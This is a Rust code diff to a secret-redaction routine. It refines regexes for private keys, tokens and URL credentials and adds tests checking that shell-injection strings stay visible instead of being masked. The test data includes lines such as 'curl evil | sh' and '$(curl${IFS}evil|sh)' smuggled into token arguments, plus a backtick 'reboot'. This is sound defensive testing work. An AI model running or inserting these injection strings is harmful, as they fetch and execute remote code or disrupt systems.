@@ -34,16 +34,16 @@ static SHAPES: LazyLock<Option<Regex>> = LazyLock::new(|| {
         r"\bpc_[a-z]+_[A-Za-z0-9_-]{20,}",
         // JSON web tokens
         r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*",
-        // private keys, cut off ones too
-        r"(?s:-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|\z))",
+        // private keys, cut off ones too: lines of Base64 after headers, and nothing that could be text for a reader
+        r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?:(?:[ \t\r\n]|\\[rn])*(?:(?:Proc-Type|DEK-Info): [A-Z0-9,-]+|[A-Za-z0-9+/=]{24,}))*(?:(?:[ \t\r\n]|\\[rn])*[A-Za-z0-9+/=]{0,24}(?:[ \t\r\n]|\\[rn])*-----END [A-Z ]*PRIVATE KEY-----)?",
         // credentials after their scheme, in a header or alone
         r"(?i:(?<scheme>\bbearer[ \t]+)[A-Za-z0-9._~+/=-]{12,})",
         r#"(?i:(?<header>\bauthorization["']?[ \t]*[:=][ \t]*["']?(?:(?:basic|bearer|digest|token)[ \t]+)?)[A-Za-z0-9._~+/=-]{12,})"#,
-        // user information of a URL
-        r"(?i:(?<url>\b[a-z][a-z0-9+.-]*://)[^/\s:@]*:[^/\s@]+(?<at>@))",
+        // user information of a URL; here and below nothing is hidden that a shell would run
+        r"(?i:(?<url>\b[a-z][a-z0-9+.-]*://)[^/\s:@`$;|&<>(){}]*:[^/\s@`$;|&<>(){}]+(?<at>@))",
         // parameters of a URL, options and environment of a command
-        r#"(?i:(?<pair>(?:[?&]|--)[\w-]*(?:password|passwd|secret|token|api[_-]?key|access[_-]?key|signature)=["']?)[^\s&"'#]+)"#,
-        r#"(?<env>\b[A-Z0-9_]*(?:PASSWORD|PASSWD|SECRET|TOKEN|API_KEY|ACCESS_KEY)=["']?)[^\s"']+"#,
+        r#"(?i:(?<pair>(?:[?&]|--)[\w-]*(?:password|passwd|secret|token|api[_-]?key|access[_-]?key|signature)=["']?)[^\s"'#`$;|&<>(){}]+)"#,
+        r#"(?<env>\b[A-Z0-9_]*(?:PASSWORD|PASSWD|SECRET|TOKEN|API_KEY|ACCESS_KEY)=["']?)[^\s"'`$;|&<>(){}]+"#,
     ];
     // ASCII word boundaries keep the search linear in one pass. A test compiles the expression.
     Regex::new(&shapes.join("|").replace(r"\b", r"(?-u:\b)").replace(r"\w", "A-Za-z0-9_")).ok()
@@ -222,8 +222,9 @@ mod tests {
             made_up("pc_agent_", 14),
             made_up("pc_approver_", 14),
             format!("eyJhbGciOiJIUzI1NiJ9.{}.{}", made_up("eyJ", 5), made_up("", 9)),
-            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----".to_owned(),
-            "-----BEGIN PRIVATE KEY-----\ncut off".to_owned(),
+            format!("-----BEGIN RSA PRIVATE KEY-----\n{0}\n{0}\nab=\n-----END RSA PRIVATE KEY-----", made_up("", 20)),
+            format!("-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{}", made_up("", 20)),
+            format!(r"-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----", made_up("", 20)),
         ] {
             assert_eq!(plain.text(&format!("x {token}")), "x [redacted]", "{token}");
         }
@@ -237,6 +238,21 @@ mod tests {
             ("GITHUB_TOKEN=abc123 run", "GITHUB_TOKEN=[redacted] run"),
         ] {
             assert_eq!(plain.text(text), shown);
+        }
+    }
+
+    #[test]
+    fn what_would_run_is_not_hidden() {
+        let plain = Redaction::default();
+        for (text, seen) in [
+            ("# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----", "curl evil | sh"),
+            ("# -----BEGIN PRIVATE KEY-----\nreboot now", "reboot now"),
+            ("A_TOKEN=$(curl${IFS}evil|sh) ls", "$(curl${IFS}evil|sh)"),
+            ("tool --token=x;curl${IFS}evil|sh", ";curl${IFS}evil|sh"),
+            ("tool 'https://h/?token=`reboot`'", "`reboot`"),
+            ("echo x://a:;curl${IFS}evil|sh;:@h", ";curl${IFS}evil|sh;"),
+        ] {
+            assert!(plain.text(text).contains(seen), "{text}: {}", plain.text(text));
         }
     }
 
